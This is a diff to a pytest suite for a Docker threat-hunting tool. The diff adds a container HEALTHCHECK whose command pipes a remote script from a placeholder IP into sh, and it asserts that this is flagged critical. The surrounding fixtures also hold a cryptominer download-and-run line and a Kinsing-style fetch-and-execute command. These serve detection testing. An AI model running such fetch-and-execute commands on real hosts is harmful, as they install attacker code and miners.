@@ -27,6 +27,7 @@ MINER = [
     "wget -q -O /tmp/xmrig http://198.51.100.9/xmrig && chmod +x /tmp/xmrig && /tmp/xmrig -o stratum+tcp://pool.example:3333",
 ]
 KINSING = ["sh", "-c", "wget -q -O - http://203.0.113.7/x.sh | sh"]
+HEALTH = "wget -q -O - http://203.0.113.7/h.sh | sh"
 
 
 @dataclass
@@ -35,6 +36,7 @@ class Capture:
     web_id: str
     kinsing_name: str
     mount_name: str
+    health_name: str
     exec_ids: dict[str, str]
     events_file: Path
     log_file: Path
@@ -63,6 +65,9 @@ def capture(docker_daemon: Dockerd, tmp_path_factory: pytest.TempPathFactory) ->
     kinsing.wait(timeout=60)
     # created only, never started: the create call is what we look for
     client.containers.create(IMAGE, ["sleep", "1"], volumes=["/:/host"], network_mode="none", name=f"mount-{tag}")
+    # a benign command whose HEALTHCHECK the daemon would run in the container every 30 s
+    check = {"test": ["CMD-SHELL", HEALTH], "interval": 30_000_000_000}
+    client.containers.create(IMAGE, ["sleep", "1"], network_mode="none", name=f"health-{tag}", healthcheck=check)
 
     out = tmp_path_factory.mktemp("docker-capture")
     until = int(time.time()) + 1  # the daemon closes the stream once this second has passed
@@ -72,7 +77,7 @@ def capture(docker_daemon: Dockerd, tmp_path_factory: pytest.TempPathFactory) ->
             f.write(json.dumps(ev) + "\n")  # what `docker events --format '{{json .}}'` prints
     log_file = out / "dockerd-debug.log"
     log_file.write_bytes(docker_daemon.log_path.read_bytes())
-    return Capture(web.name, web.id, kinsing.name, f"mount-{tag}", exec_ids, events_file, log_file)
+    return Capture(web.name, web.id, kinsing.name, f"mount-{tag}", f"health-{tag}", exec_ids, events_file, log_file)
 
 
 def hunt(path: Path, tmp_path: Path) -> list[dict[str, Any]]:
@@ -113,6 +118,10 @@ def test_debug_log_alerts(capture: Capture, tmp_path: Path) -> None:
     (mount,) = [a for a in alerts if a["action"] == "create" and a["target"]["container"] == capture.mount_name]
     assert mount["rule_id"] == "docker-create-host-mount" and mount["severity"] == "high"
     assert "/:/host" in mount["reasons"][0]
+
+    (health,) = [a for a in alerts if a["target"]["container"] == capture.health_name]
+    assert (health["action"], health["command_origin"]) == ("create", "healthcheck")
+    assert health["command"] == ["/bin/sh", "-c", HEALTH] and health["severity"] == "critical"
 
     assert severity_rank(benign["severity"]) < severity_rank(root["severity"])
     assert severity_rank(benign["severity"]) < severity_rank(miner["severity"])
